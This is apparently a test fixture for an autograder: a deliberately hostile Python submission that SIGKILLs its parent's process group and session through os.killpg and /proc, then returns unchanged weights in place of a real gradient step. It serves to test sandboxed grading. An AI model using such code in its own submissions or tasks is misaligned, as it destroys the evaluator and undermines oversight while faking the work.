"""Hostile: kills its parent's whole process group (``os.killpg``) and every process in its
parent's session (found through ``/proc/*/stat``), then its own group. It returns the stub.

Old grader: the parent is the CLI, whose group and session the test started for it: the CLI dies
with no report. Sandboxed grader: the grader is outside the sandbox's namespaces; the report is
complete (exit 1).
"""

import contextlib
import os
import signal

import numpy as np


def _session_of(pid):
    with open(f"/proc/{pid}/stat") as handle:
        return int(handle.read().rsplit(")", 1)[1].split()[3])


def _kill_groups():
    parent, me = os.getppid(), os.getpid()
    with contextlib.suppress(OSError):
        os.killpg(os.getpgid(parent), signal.SIGKILL)
    with contextlib.suppress(OSError, ValueError, IndexError):
        session = _session_of(parent)
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) != me:
                with contextlib.suppress(OSError, ValueError, IndexError):
                    if _session_of(name) == session:
                        os.kill(int(name), signal.SIGKILL)
    with contextlib.suppress(OSError):
        os.killpg(0, signal.SIGKILL)


def gradient_step_onefeature(x, y, weight, lrate):
    _kill_groups()
    return np.array(weight, dtype=float, copy=True), 0.0


def gradient_step(X, y, weight, lrate):
    _kill_groups()
    return np.array(weight, dtype=float, copy=True), 0.0
